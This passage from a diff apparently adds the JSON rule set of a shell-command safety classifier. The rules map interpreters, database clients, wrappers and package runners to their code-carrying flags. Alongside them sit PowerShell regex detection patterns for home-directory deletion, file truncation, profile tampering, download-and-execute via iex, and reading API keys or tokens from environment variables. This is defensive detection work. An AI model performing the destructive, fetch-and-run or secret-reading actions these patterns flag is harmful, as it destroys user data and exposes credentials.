+rl","code":["e","E"],"checks":["c","MO=Deparse","MO=Concise","MO=Terse"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encoding","en\
+able","disable","dump","parser"],"language":"ruby","code":["e"],"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"language":\
+"ruby","code":["e","execute"],"files":["f","rakefile"],"operands":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["\
+run","file","process-begin","process-code","process-end","process-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R","E","p\
+rocess-begin","process-code","process-end"],"files":["f","F","file"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","source"\
+,"include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["file","fi\
+eld-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk":{"sho\
+rt":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"]\
+,"operands":"code"},"nawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"]\
+,"files":["f","file","E","exec"],"operands":"code"},"psql":{"short":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database","file"\
+,"set","variable"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["execute\
+","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-comma\
+nd"],"operands":"no code"},"mariadb":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","database","file","set","variab\
+le"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","nullval\
+ue"],"permuted":true,"language":"sql","code":["cmd"],"files":["init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operands":"da\
+tabase then code"},"duckdb":{"short":"cs","long":["cmd","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":\
+"sql","code":["c","s","cmd"],"operands":"database then code"},"influx":{"long":["execute","host","port","user","username","dbname","database","file","set","vari\
+able"],"permuted":true,"language":"sql","code":["execute"],"operands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username","dbname\
+","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","port","use\
+r","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi","long":\
+["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":"no cod\
+e"},"clickhouse":{"short":"qhud","long":["query","host","port","user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"operands":"d\
+atabase then code"},"clickhouse-client":{"short":"qhud","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":\
+true,"language":"sql","code":["q","query"],"operands":"no code"},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","database"\
+,"file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host","port"\
+,"user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code"},"sql\
+plus":{"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo":{"sho\
+rt":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["\
+f","file"],"operands":"database then files"},"mongosh":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permu\
+ted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],"langua\
+ge":"sql","files":["eval"],"operands":"code"},"valkey-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keydb-cli":\
+{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","password"\
+,"database","file"],"permuted":true,"language":"sql","files":["f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"short":"f"\
+,"long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"pr\
+esto":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operan\
+ds":"no code"},"presto-cli":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files\
+":["f","file"],"operands":"no code"},"hive":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":\
+["e"],"files":["f"],"operands":"no code"},"beeline":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql"\
+,"code":["e"],"files":["f"],"operands":"no code"},"spark-sql":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"langu\
+age":"sql","code":["e"],"files":["f"],"operands":"no code"},"impala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted":true,"\
+language":"sql","code":["q","query"],"files":["f","query_file"],"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","username","d\
+bname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["command","\
+host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"short":"cd\
+fhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no \
+code"},"mycli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"\
+},"litecli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"\
+usql":{"short":"cfv","long":["command","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":{"short\
+":"qfc","long":["query","filename","connection"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"consoles\
+":{"rails":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["environm\
+ent"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell","shell_\
+plus"],"language":"python","code":["c","command"]},"django-admin":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python"\
+,"code":["c","command"]},"flask":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":"python\
+","code":["c"]},"odoo":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","code":[\
+"c"]},"scrapy":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code":["exec\
+ute"]},"drush":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","eval","e\
+v","php:cli"],"language":"php","operands":"code"},"wp":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"languag\
+e":"php","operands":"code"},"wp-cli.phar":{"after":["eval","shell"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user\
+","group","prompt","chdir","chroot","role","type","host","other-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC\
+","assigns":true},"exec":{"short":"a"},"builtin":{},"pkexec":{"long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":\
+["D","chdir"]},"gosu":{"skip":1},"su-exec":{"skip":1},"taskset":{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","p\
+deathsig"]},"runcon":{"short":"utrl","skip":1},"env":{"short":"uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","s\
+plit-string"]},"cross-env":{"assigns":true},"dotenv":{"short":"ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"\
+entr":{},"firejail":{},"torsocks":{},"eatmydata":{},"ccache":{},"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own\
+":true},"lando":{"own":true},"nice":{"short":"n","long":["adjustment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},\
+"numactl":{"short":"NmCipP"},"timeout":{"short":"sk","long":["signal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":\
+{"short":"fo","long":["format","output"]},"strace":{"short":"eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["war\
+mup","runs","prepare","cleanup","shell","export-json","export-markdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["inte\
+rval","equexit"],"joined":true},"pdsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","u\
+ser","timeout"],"joined":true},"clush":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","\
+user","timeout"],"joined":true},"parallel-ssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","t\
+imeout","conflict-exit-code","command"],"skip":1,"code":["c","command"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c",\
+"command"]},"chroot":{"long":["userspec","groups"],"skip":1,"own":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"ow\
+n":true},"nsenter":{"short":"tSGrw","long":["target","setuid","setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short"\
+:"f"},"proxychains4":{"short":"f"},"tini":{"short":"pe"},"dumb-init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus\
+-daemon"]},"systemd-run":{"short":"pEMHtu","long":["property","setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","o\
+n-boot"],"own":true},"systemd-inhibit":{"long":["what","who","why","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c\
+","call"]},"uvx":{"long":["from","with","python"]},"su":{"short":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":[\
+"c","command","session-command"]},"runuser":{"short":"cgGswu","long":["command","group","shell","session-command","user"],"code":["c","command","session-command\
+"]},"sg":{"short":"c","permuted":true,"skip":99,"code":["c"]}},"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],\
+"after":["exec","x","explore"]},"pnpm":{"short":"","long":["package","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","inclu\
+de","exclude","from","since","jobs"],"after":["dlx","exec"]},"bun":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","con\
+currency"],"after":["exec"]},"nx":{"short":"","long":[],"after":["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after"\
+:["exec"]},"pyenv":{"short":"","long":[],"after":["exec"]},"asdf":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"vo\
+lta":{"short":"","long":["node","npm","yarn"],"after":["run"]},"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-s\
+pawn":{"short":"","long":[]},"pipx":{"short":"","long":["spec"],"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group",\
+"env-file"],"after":["run"]},"poetry":{"short":"","long":[],"after":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after"\
+:["run"]},"rye":{"short":"","long":[],"after":["run"]},"hatch":{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"sh\
+ort":"","long":[],"after":["run"]},"infisical":{"short":"","long":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"\
+","long":[],"after":["run"]},"heroku":{"short":"ares","long":["app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name",\
+"prefix"],"after":["run"]},"nvm":{"short":"","long":[],"after":["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","l\
+ong":[],"after":["exec"],"skip":1},"mise":{"short":"","long":[],"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":""\
+,"long":[],"after":["develop","shell","run"]},"vagrant":{"short":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["com\
+mand"],"code":["c","command"],"after":["forall"]}},"package_verbs":["access","add","approve-builds","audit","autoclean","bin","cache","cat-file","cat-index","ch\
+eck","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor","env","exec","explain","fetch","find-hash","foreach","generate-lock-entr\
+y","global","help","i","ignored-builds","import","info","init","install","install-test","it","licenses","link","list","ln","login","logout","ls","m","multi","np\
+m","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies","profile","prune","publish","rb","rebuild","recursive","remove","rm","roo\
+t","run","run-script","search","self-update","selfupdate","server","set","setup","stage","start","stop","store","tag","team","test","t","un","uninstall","unlink\
+","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","whoami","why","with","workspace","workspaces"],"small_languages":{"lua":{"\
+short":"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","long":[],"code":["e"],"d\
+ialect":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.4":{"short":"e"\
+,"long":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":["e"],"dialect":"r"},"ju\
+lia":{"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tcl"},"wish":{"short":"",\
+"long":[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lis\
+p"},"emacsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect\
+":"lisp"},"racket":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"\
+],"dialect":"lisp"},"ecl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"code":["c","e","e\
+val","x"],"dialect":"lisp"},"chicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":["eval"],"code":[\
+"c","e","eval","x"],"dialect":"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e","long":["eval"],\
+"code":["e","eval"],"dialect":"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["eval"],"code":["e\
+","eval"],"dialect":"elixir"},"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code":["eval"],"diale\
+ct":"erlang"},"octave":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["eval","batch"],"c\
+ode":["eval","batch","r"],"dialect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"ghc":{"short":"e","\
+long":[],"code":["e"],"dialect":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"code":["e"],"dialec\
+t":"haskell"},"scala":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"amm":\
+{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"swift":{"short":"e","long":["e\
+val"],"code":["e","eval"],"dialect":"named"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","long":[],"code":[\
+"e"],"dialect":"named","operands":"code"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-script":{"short":\
+"","long":[],"dialect":"named"},"swiftc":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"","long":[],"dial\
+ect":"named"},"kotlinc":{"short":"","long":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":"","long":[],"d\
+ialect":"typed"},"jshell":{"short":"","long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dialect":"typed"},\
+"tcc":{"short":"","long":[],"dialect":"typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"clang":{"short":""\
+,"long":[],"dialect":"typed"},"clang++":{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":"","long":[],"di\
+alect":"typed"},"pwsh":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2\
+000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000\
+}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{\
+0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(\
+?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\
+\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\
+\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?\
+~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,3\
+00}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\
+\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][\
+^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Cont\
+ent\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bash\
+rc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Di\
+rectory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\
+\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[\
+A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|C\
+reationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\
+\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs\
+|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invo\
+ke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|\
+npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|r\
+sync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\
+\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPrefe\
+rence|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptbloc\
+k\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadStr\
+ing)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(\
+?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env\
+:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c","Comman\
+d","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\
+\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\
+\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\
+\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,10\
+00}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\
+\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-\
+ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Obj\
+ect|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|c\
+lc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-Chil\
+dItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n\
+]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-]\
